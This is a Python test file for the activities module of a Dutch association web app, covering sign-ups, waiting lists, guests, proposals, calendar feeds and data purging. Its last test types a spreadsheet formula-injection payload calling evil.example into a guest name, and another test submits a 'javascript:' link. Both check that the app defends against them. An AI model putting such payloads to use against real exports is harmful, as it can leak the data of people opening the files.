"""Activities: who sees them, sign-up with a waiting list, guests, proposals, calendar and mails."""
import threading
from datetime import UTC, datetime, time, timedelta

import pytest
import vobject

from cpweb.activities import logic, rules
from cpweb.activities.models import Activity, Signup
from cpweb.core.database import utcnow
from cpweb.core.extensions import db
from cpweb.core.i18n import local_today, month_name
from cpweb.core.retention import run_purge
from tests.conftest import count_queries


@pytest.fixture
def make_activity(app):
    def make(days_ahead=10, audience=rules.MEMBERS, capacity=None, bodies=(), status=rules.PUBLISHED, **fields):
        day = local_today() + timedelta(days=days_ahead)
        activity = logic.save_activity(None, {
            "title": fields.pop("title", "Training werkboek"), "description": "", "kind": "training",
            "organiser": "lcr", "organiser_name": "", "scope": "regionaal", "day": day, "start": time(10),
            "end_day": None, "end": time(12), "location": "Werkplein", "online_url": "", "external_url": "",
            "audience": audience, "capacity": capacity, "signup_deadline": fields.pop("signup_deadline", None),
            "contact": ""}, bodies)
        activity.status = status
        for name, value in fields.items():
            setattr(activity, name, value)
        db.session.commit()
        return activity

    return make


def form_data(**changes):
    day = (local_today() + timedelta(days=14)).isoformat()
    data = {"title": "Informatieavond", "description": "Welkom", "kind": "informatie", "organiser": "gemeente",
            "organiser_name": "", "scope": "lokaal", "day": day, "start": "19:00", "end_day": "", "end": "21:00",
            "location": "Raadhuis", "online_url": "", "external_url": "", "audience": "everyone", "capacity": "30",
            "signup_deadline": "", "contact": ""}
    data.update(changes)
    return data


def test_place_or_waiting_list():
    assert rules.new_place_status(None, 500) == rules.CONFIRMED
    assert rules.new_place_status(2, 1) == rules.CONFIRMED
    assert rules.new_place_status(2, 2) == rules.WAITING
    assert rules.places_left(2, 5) == 0
    now = datetime(2026, 5, 1, tzinfo=UTC)
    assert rules.sign_up_closed(now, None, now) and not rules.sign_up_closed(now, None, now + timedelta(hours=1))


# --- seeing --------------------------------------------------------------------------------------

def test_guests_see_only_activities_open_to_everyone(client, make_activity):
    public = make_activity(audience=rules.EVERYONE, title="Voor iedereen")
    members = make_activity(title="Alleen leden")
    html = client.get("/activiteiten/").text
    assert "Voor iedereen" in html and "Alleen leden" not in html
    assert client.get(f"/activiteiten/{public.id}").status_code == 200
    assert client.get(f"/activiteiten/{members.id}").status_code == 404
    assert client.get(f"/activiteiten/{members.id}/agenda.ics").status_code == 404


def test_an_activity_for_some_bodies(client, auth, make_activity, make_body):
    body, other = make_body(), make_body()
    activity = make_activity(audience=rules.BODIES, bodies=[body])
    auth.login(bodies=[other])
    assert client.get(f"/activiteiten/{activity.id}").status_code == 404
    auth.logout()
    auth.login(bodies=[body])
    assert client.get(f"/activiteiten/{activity.id}").status_code == 200


def test_filters_and_archive(client, auth, make_activity):
    make_activity(title="Training straks")
    make_activity(days_ahead=-10, title="Training geweest")
    auth.login()
    html = client.get("/activiteiten/?soort=training").text
    assert "Training straks" in html and "Training geweest" not in html
    assert "Training geweest" in client.get("/activiteiten/?archief=1").text
    assert "Training straks" not in client.get("/activiteiten/?soort=overleg").text
    response = client.get("/activiteiten/?maand=mei", headers={"HX-Request": "true"})
    assert response.status_code == 422 and "Kies een van de mogelijkheden in de lijst." in response.text
    assert "<html" not in response.text


def test_month_filter_names_the_months(client, make_activity):
    """People read "mei 2026", not 2026-05; a month from an older link stays on the list."""
    day = local_today() + timedelta(days=40)
    make_activity(title="Over een maand", days_ahead=40, audience=rules.EVERYONE)
    html = client.get("/activiteiten/").text
    with client.application.test_request_context():
        assert f'<option value="{day:%Y-%m}">{month_name(day)}</option>' in html
    assert "Over een maand" in client.get(f"/activiteiten/?maand={day:%Y-%m}").text
    assert "Over een maand" not in client.get(f"/activiteiten/?maand={day + timedelta(days=62):%Y-%m}").text
    old = client.get("/activiteiten/?maand=2001-03&archief=1")
    assert old.status_code == 200 and '<option selected value="2001-03">maart 2001</option>' in old.text


def test_list_runs_a_constant_number_of_queries(client, auth, make_activity, make_user):
    auth.login()
    activity = make_activity(capacity=3)
    logic.sign_up(activity.id, make_user())
    small = count_queries(client, "/activiteiten/")
    for n in range(12):
        extra = make_activity(days_ahead=n + 1, capacity=5)
        for _ in range(3):
            logic.sign_up(extra.id, make_user())
    assert count_queries(client, "/activiteiten/") == small


# --- members sign up ------------------------------------------------------------------------------

def test_sign_up_waiting_list_and_moving_up(client, auth, make_activity, make_user, mails):
    activity = make_activity(capacity=1)
    first, second = make_user(), make_user()
    auth.login(first)
    response = client.post(f"/activiteiten/{activity.id}/aanmelden", headers={"HX-Request": "true"})
    assert response.status_code == 200 and "<html" not in response.text and "Aangemeld" in response.text
    client.post(f"/activiteiten/{activity.id}/aanmelden")  # twice: still one sign-up
    assert db.session.scalar(db.select(db.func.count()).select_from(Signup)) == 1
    assert mails[-1].attachments and mails[-1].to == first.email
    auth.logout()
    auth.login(second)
    client.post(f"/activiteiten/{activity.id}/aanmelden")
    assert logic.my_signup(activity, second).status == rules.WAITING
    auth.logout()
    auth.login(first)
    client.post(f"/activiteiten/{activity.id}/afmelden")
    assert logic.my_signup(activity, second).status == rules.CONFIRMED
    assert mails[-1].to == second.email and "plaats" in mails[-1].subject


def test_sign_up_closed_after_the_deadline_or_when_cancelled(client, auth, make_activity):
    closed = make_activity(signup_deadline=local_today() - timedelta(days=1))
    cancelled = make_activity(status=rules.CANCELLED)
    auth.login()
    response = client.post(f"/activiteiten/{closed.id}/aanmelden")
    assert response.status_code == 409 and "aanmeldtermijn is voorbij" in response.text
    response = client.post(f"/activiteiten/{cancelled.id}/aanmelden")
    assert response.status_code == 409 and "gaat niet door" in response.text
    assert db.session.scalar(db.select(Signup)) is None


def test_two_members_take_the_last_place_at_the_same_moment(app, make_activity, make_user):
    """Each in its own thread, connection and app context: exactly one gets the place."""
    activity = make_activity(capacity=1)
    users = [make_user(), make_user()]
    activity_id, user_ids = activity.id, [u.id for u in users]
    start = threading.Barrier(2)
    results = []

    def take(user_id):
        with app.app_context():
            from cpweb.auth.models import User

            user = db.session.get(User, user_id)
            mine = db.session.get(Activity, activity_id)
            start.wait()
            results.append(logic.sign_up(mine.id, user).status)
            db.session.remove()

    threads = [threading.Thread(target=take, args=(user_id,)) for user_id in user_ids]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(results) == [rules.CONFIRMED, rules.WAITING]


# --- guests ---------------------------------------------------------------------------------------

def test_guest_signs_up_confirms_by_link_and_withdraws(client, make_activity, mails):
    activity = make_activity(audience=rules.EVERYONE, capacity=10)
    response = client.post(f"/activiteiten/{activity.id}/gast", data={"name": "Gert Gast", "email": "gert@example.org"})
    assert response.status_code == 200 and "Kijk in uw e-mail" in response.text
    signup = db.session.scalar(db.select(Signup))
    assert signup.status == rules.UNCONFIRMED and logic.taken_counts([activity.id]) == {}
    link = mails[-1].body.split("link: ")[1].split()[0]
    assert client.get(link).status_code == 200 and signup.status == rules.UNCONFIRMED  # opening it changes nothing
    client.post(link)
    assert signup.status == rules.CONFIRMED
    confirmation = mails[-1]
    assert confirmation.attachments and "/afmelden" in confirmation.body
    withdraw_link = confirmation.body.split("link: ")[1].split()[0]
    client.post(withdraw_link)
    assert signup.status == rules.WITHDRAWN


def test_after_yes_i_come_the_guest_reads_what_when_where_and_the_mail_says_it_too(client, make_activity, mails):
    activity = make_activity(audience=rules.EVERYONE, title="Informatieavond", location="Werkplein, Stationsplein 1",
                             online_url="https://meet.example.org/avond")
    signup = logic.guest_sign_up(activity.id, "Gert Gast", "gert@example.org")
    response = client.post(f"/activiteiten/aanmelding/{signup.token}")
    assert response.status_code == 303 and response.headers["Location"].endswith(f"/aanmelding/{signup.token}")
    html = client.get(f"/activiteiten/aanmelding/{signup.token}").text
    assert "<h1>U bent aangemeld</h1>" in html and "Aanmelding bevestigen" not in html and "Ja, ik kom" not in html
    assert "Informatieavond" in html and "Werkplein, Stationsplein 1" in html and activity.period in html
    assert "10:00 – 12:00" in activity.period
    assert f'href="/activiteiten/{activity.id}/agenda.ics"' in html and f'href="/activiteiten/{activity.id}"' in html
    assert f'href="/activiteiten/aanmelding/{signup.token}/afmelden"' in html
    body = mails[-1].body
    assert f"Wanneer: {activity.period}" in body and "Waar: Werkplein, Stationsplein 1" in body
    assert "Online: https://meet.example.org/avond" in body and f"/activiteiten/{activity.id}" in body


def test_a_guest_on_the_waiting_list_reads_so(client, make_activity, mails):
    activity = make_activity(audience=rules.EVERYONE, capacity=1)
    first, second = (logic.guest_sign_up(activity.id, name, f"{name}@example.org") for name in ("een", "twee"))
    for signup in (first, second):
        client.post(f"/activiteiten/aanmelding/{signup.token}")
    html = client.get(f"/activiteiten/aanmelding/{second.token}").text
    assert "<h1>U staat op de wachtlijst</h1>" in html and "Wanneer" in html
    assert "wachtlijst" in mails[-1].body and "Wanneer: " in mails[-1].body


def test_guest_input_errors_and_members_only(client, make_activity):
    public, members = make_activity(audience=rules.EVERYONE), make_activity()
    response = client.post(f"/activiteiten/{public.id}/gast", data={"name": "", "email": "geen-adres"})
    assert response.status_code == 422 and "Vul een naam in." in response.text
    assert client.post(f"/activiteiten/{members.id}/gast", data={"name": "A", "email": "a@example.org"}).status_code == 404
    assert client.get("/activiteiten/aanmelding/verzonnen").status_code == 404


def test_an_unconfirmed_sign_up_expires_after_a_day(client, make_activity):
    activity = make_activity(audience=rules.EVERYONE)
    signup = logic.guest_sign_up(activity.id, "Laat", "laat@example.org")
    signup.created_at = utcnow() - timedelta(hours=25)
    db.session.commit()
    response = client.post(f"/activiteiten/aanmelding/{signup.token}")
    assert response.status_code == 409 and "verlopen" in response.text
    assert run_purge(utcnow())["guest sign-ups"] == 1


def test_guest_data_is_erased_a_month_after_the_activity(app, make_activity):
    activity = make_activity(audience=rules.EVERYONE, days_ahead=-40)
    db.session.add(Signup(activity_id=activity.id, guest_name="Oud", guest_email="oud@example.org",
                          status=rules.CONFIRMED))
    db.session.commit()
    assert run_purge(utcnow(), dry_run=True)["guest sign-ups"] == 1
    run_purge(utcnow())
    db.session.commit()
    assert db.session.scalar(db.select(Signup)) is None


# --- secretaries, proposals -------------------------------------------------------------------------

def test_secretary_adds_and_moves_an_activity_and_participants_hear_of_it(client, auth, make_user, mails):
    auth.login(role="secretaris")
    response = client.post("/activiteiten/nieuw", data=form_data())
    assert response.status_code == 303
    activity = db.session.scalar(db.select(Activity))
    assert activity.status == rules.PUBLISHED and activity.capacity == 30
    logic.sign_up(activity.id, make_user(email="komt@example.org"))
    data = form_data(location="Bibliotheek")
    assert client.post(f"/activiteiten/{activity.id}/bewerken", data=data).status_code == 303
    assert activity.sequence == 1 and any(m.to == "komt@example.org" and m.subject.startswith("Gewijzigd") for m in mails)
    client.post(f"/activiteiten/{activity.id}/afgelasten")
    assert activity.status == rules.CANCELLED and mails[-1].subject.startswith("Afgelast")
    csv_response = client.get(f"/activiteiten/{activity.id}/deelnemers.csv")
    assert "komt@example.org" in csv_response.text and csv_response.headers["Content-Type"].startswith("text/csv")


@pytest.mark.parametrize("changes, message", [
    ({"capacity": "0"}, "Kies een aantal van 1 of meer."),
    ({"capacity": "-3"}, "Kies een aantal van 1 of meer."),
    ({"end": "18:00"}, "Kies een einde na het begin."),
    ({"title": "x" * 300}, "Gebruik hoogstens 200 tekens."),
    ({"audience": "bodies"}, "Kies minstens één orgaan."),
    ({"external_url": "javascript:alert(1)"}, "Vul een link in die begint met https://."),
    ({"end_day": (local_today() + timedelta(days=60)).isoformat()}, "Een activiteit duurt hoogstens 31 dagen."),
    ({"signup_deadline": (local_today() + timedelta(days=15)).isoformat()},
     "Aanmelden kan tot en met de laatste dag van de activiteit. Kies die dag of een dag ervoor."),
])
def test_bad_activity_input_keeps_what_was_typed(client, auth, changes, message):
    auth.login(role="secretaris")
    response = client.post("/activiteiten/nieuw", data=form_data(location="Zaal met naam", **changes))
    assert response.status_code == 422 and message in response.text and "Zaal met naam" in response.text
    assert db.session.scalar(db.select(Activity)) is None


def test_a_member_proposes_and_a_secretary_declines_with_a_reason(client, auth, make_user):
    member = auth.login()
    client.post("/activiteiten/nieuw", data=form_data(title="Mijn idee"))
    activity = db.session.scalar(db.select(Activity))
    assert activity.status == rules.PROPOSED and activity.proposed_by_id == member.id
    assert client.post(f"/activiteiten/{activity.id}/beoordelen", data={"besluit": "publiceren"}).status_code == 403
    auth.logout()
    auth.login(make_user())
    assert client.get(f"/activiteiten/{activity.id}").status_code == 404  # not published yet
    auth.logout()
    auth.login(role="secretaris")
    response = client.post(f"/activiteiten/{activity.id}/beoordelen", data={"besluit": "afwijzen", "reason": ""})
    assert response.status_code == 422 and "Schrijf op waarom" in response.text
    client.post(f"/activiteiten/{activity.id}/beoordelen", data={"besluit": "afwijzen", "reason": "Past niet in ons plan."})
    assert activity.status == rules.DECLINED
    auth.logout()
    auth.login(member)
    assert "Past niet in ons plan." in client.get("/activiteiten/").text


def test_a_member_proposes_on_a_form_titled_and_buttoned_as_a_proposal(client, auth):
    auth.login()
    page = client.get("/activiteiten/nieuw").text
    assert "<h1>Activiteit voorstellen</h1>" in page and ">Voorstel versturen</button>" in page
    assert "Activiteit toevoegen" not in page
    response = client.post("/activiteiten/nieuw", data=form_data(title=""))
    assert response.status_code == 422 and "<h1>Activiteit voorstellen</h1>" in response.text
    auth.logout()
    auth.login(role="secretaris")
    page = client.get("/activiteiten/nieuw").text
    assert "<h1>Activiteit toevoegen</h1>" in page and ">Opslaan</button>" in page and "Voorstel versturen" not in page


def test_a_members_own_proposal_says_it_waits_for_approval(client, auth):
    auth.login()
    client.post("/activiteiten/nieuw", data=form_data(title="Mijn idee"))
    activity = db.session.scalar(db.select(Activity))
    page = client.get(f"/activiteiten/{activity.id}").text
    assert "gaat niet door" not in page
    assert "Aanmelden kan pas als een secretaris dit voorstel heeft goedgekeurd." in page
    response = client.post(f"/activiteiten/{activity.id}/aanmelden", headers={"HX-Request": "true"})
    assert "Aanmelden kan pas als een secretaris dit voorstel heeft goedgekeurd." in response.text
    assert activity.status == rules.PROPOSED


def test_only_an_activity_that_will_happen_offers_its_calendar_file(client, auth, make_activity):
    """A proposal, a declined one or a cancelled one is not something to put in a calendar."""
    member = auth.login()
    published = make_activity(title="Gaat door")
    for status in (rules.PROPOSED, rules.DECLINED, rules.CANCELLED):
        activity = make_activity(status=status, proposed_by_id=member.id)
        page = client.get(f"/activiteiten/{activity.id}")
        assert page.status_code == 200 and "Zet in mijn agenda" not in page.text, status
        expected = 200 if status == rules.CANCELLED else 404
        assert client.get(f"/activiteiten/{activity.id}/agenda.ics").status_code == expected, status
    assert "Zet in mijn agenda" in client.get(f"/activiteiten/{published.id}").text
    assert client.get(f"/activiteiten/{published.id}/agenda.ics").status_code == 200
    auth.logout()
    auth.login(role="secretaris")
    proposal = db.session.scalar(db.select(Activity).filter_by(status=rules.PROPOSED))
    assert "Zet in mijn agenda" not in client.get(f"/activiteiten/{proposal.id}").text
    assert client.get(f"/activiteiten/{proposal.id}/agenda.ics").status_code == 200


def test_why_nobody_signs_up_says_the_activitys_own_state():
    start = datetime(2026, 6, 1, 10, tzinfo=UTC)
    now = start - timedelta(days=1)
    assert "goedgekeurd" in str(rules.why_no_signup(rules.PROPOSED, None, start, now))
    assert "afgewezen" in str(rules.why_no_signup(rules.DECLINED, None, start, now))
    assert "gaat niet door" in str(rules.why_no_signup(rules.CANCELLED, None, start, now))
    assert rules.why_no_signup(rules.PUBLISHED, None, start, now) is None


def test_report_after_the_activity(client, auth, make_activity):
    activity = make_activity(days_ahead=-2)
    auth.login(role="secretaris")
    assert client.get(f"/activiteiten/{activity.id}/verslag").status_code == 200
    client.post(f"/activiteiten/{activity.id}/verslag", data={"report": "Het ging over **werk**."})
    assert "<strong>werk</strong>" in client.get(f"/activiteiten/{activity.id}").text


def test_member_cannot_manage(client, auth, make_activity):
    activity = make_activity()
    auth.login()
    for path in ("bewerken", "verslag", "deelnemers.csv"):
        assert client.get(f"/activiteiten/{activity.id}/{path}").status_code == 403
    assert client.post(f"/activiteiten/{activity.id}/afgelasten").status_code == 403


# --- calendar, reminders ------------------------------------------------------------------------------

def test_activities_are_in_the_month_grid_and_the_feeds(client, auth, make_activity):
    day = local_today() + timedelta(days=3)
    make_activity(days_ahead=3, audience=rules.EVERYONE, title="Open dag")
    make_activity(days_ahead=3, title="Ledenochtend")
    html = client.get(f"/agenda?maand={day:%Y-%m}").text
    assert "Open dag" in html and "Ledenochtend" not in html
    events = vobject.readOne(client.get("/agenda.ics").data.decode()).vevent_list
    assert [e.summary.value for e in events] == ["Open dag"]
    assert events[0].uid.value.startswith("activity-")
    auth.login()
    assert "Ledenochtend" in client.get(f"/agenda?maand={day:%Y-%m}").text


def test_reminder_once_a_day_before(app, make_activity, make_user, mails):
    activity = make_activity(days_ahead=1)
    activity.starts_at = utcnow() + timedelta(hours=20)
    db.session.commit()
    logic.sign_up(activity.id, make_user())
    mails.clear()
    assert logic.send_reminders() == 1
    assert logic.send_reminders() == 0
    assert mails[0].subject.startswith("Herinnering")


def test_home_shows_my_activities_of_the_coming_three_months(client, auth, make_activity):
    soon, later = make_activity(title="Mijn training"), make_activity(days_ahead=100, title="Mijn cursus")
    member = auth.login()
    logic.sign_up(soon.id, member)
    logic.sign_up(later.id, member)
    home = client.get("/").text
    assert "Mijn training" in home and "Mijn cursus" not in home and "De komende drie maanden." in home


def test_papers_after_the_activity_are_kept_in_the_library(client, auth, make_activity):
    import io

    activity = make_activity(days_ahead=-1, audience=rules.EVERYONE)
    auth.login(role="secretaris")
    response = client.post(f"/activiteiten/{activity.id}/stukken", content_type="multipart/form-data",
                           data={"bestand": (io.BytesIO(b"Dia 1: welkom. Dia 2: de Participatiewet."), "presentatie.txt"),
                                 "wie": "public"})
    assert response.status_code == 303
    auth.logout()
    html = client.get(f"/activiteiten/{activity.id}").text  # a guest: the activity and the paper chosen public
    assert "presentatie.txt" in html
    document_id = int(html.split('href="/documenten/')[1].split('"')[0])
    assert activity.title in client.get(f"/documenten/{document_id}").text
    auth.login()
    assert client.post(f"/activiteiten/{activity.id}/stukken", data={}).status_code == 403


def test_a_formula_typed_as_a_guests_name_is_inert_in_the_participants_csv(client, auth, make_activity, mails):
    activity = make_activity(audience=rules.EVERYONE)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")'
    client.post(f"/activiteiten/{activity.id}/gast", data={"name": formula, "email": "gast@example.org"})
    client.post(mails[-1].body.split("link: ")[1].split()[0])  # confirmed: now on the list
    auth.login(role="secretaris")
    text = client.get(f"/activiteiten/{activity.id}/deelnemers.csv").text
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Klik hier"")"' in text
    assert ';"=' not in text and not any(line.startswith('"=') for line in text.splitlines())
